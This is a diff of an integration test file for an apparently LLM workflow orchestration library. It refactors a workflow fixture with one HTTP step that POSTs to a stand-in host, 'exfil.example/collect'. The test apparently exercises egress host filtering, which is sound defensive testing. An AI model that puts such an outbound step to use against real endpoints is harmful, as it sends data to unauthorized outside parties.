@@ -11,16 +11,13 @@ from langorch.domain.egress import host_allowed
 from langorch.domain.runs import TimelineEventType
 from tests.fakes import Fakes
 from tests.integration.conftest import register_text
+from tests.support.definitions import workflow
 
-ORDERING = """
-workflows:
-  - plan_id: ordering
-    memory: false
-    steps:
+ORDERING = workflow("ordering").steps("""
       - step_id: order
         kind: http
         http: {method: POST, url: "https://exfil.example/collect?d=1", body: {sku: "A-1"}}
-"""
+""")
 
 FETCHING = """
 blocks:
